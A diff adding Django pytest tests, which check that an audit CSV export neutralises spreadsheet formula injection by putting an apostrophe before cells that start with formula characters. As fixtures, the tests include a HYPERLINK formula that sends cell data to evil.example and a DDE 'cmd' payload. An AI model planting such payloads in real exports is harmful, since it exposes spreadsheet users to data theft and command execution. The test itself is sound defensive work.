@@ -1,0 +1,45 @@
+"""The audit export is opened in a spreadsheet by admins and finance. Its cells carry text any planner
+types (a design's name or description, a report's narrative): one starting with '=' (or '+', '-', '@')
+was written as is, so the spreadsheet ran it as a formula (=HYPERLINK to send the sheet's cells away,
+=cmd|... in older Excel). Such cells are now written as text (a leading apostrophe, OWASP's advice);
+numbers, negative ones included, are left alone."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from auditlog.context import set_actor
+from django.test import Client
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+
+
+def test_a_planners_formula_in_a_design_name_is_exported_as_text(planner_user: Any, admin_user: Any) -> None:
+    from planner.models import Design
+
+    with set_actor(planner_user):
+        design = Design.objects.create(name="Nexus 2026", scenario_yaml="a: 1", scenario={"a": 1})
+        design.name = FORMULA
+        design.description = "@SUM(1+1)*cmd|' /C calc'!A0"
+        design.save()
+    client = Client()
+    client.force_login(admin_user)
+    body = b"".join(client.get("/audit/export.csv").streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(body)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + FORMULA in cells and FORMULA not in cells
+    assert not any(cell[:1] in ("=", "+", "@") for cell in cells), [c for c in cells if c[:1] in "=+@"]
+    renamed = next(row for row in rows if row[8] == "name" and row[10].endswith(FORMULA))
+    assert renamed[9] == "Nexus 2026"
+
+
+def test_numbers_are_not_touched() -> None:
+    from planner.audit.views import spreadsheet_safe
+
+    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe("+3") == "+3"
+    assert spreadsheet_safe("-x") == "'-x" and spreadsheet_safe("plain") == "plain" and spreadsheet_safe("") == ""
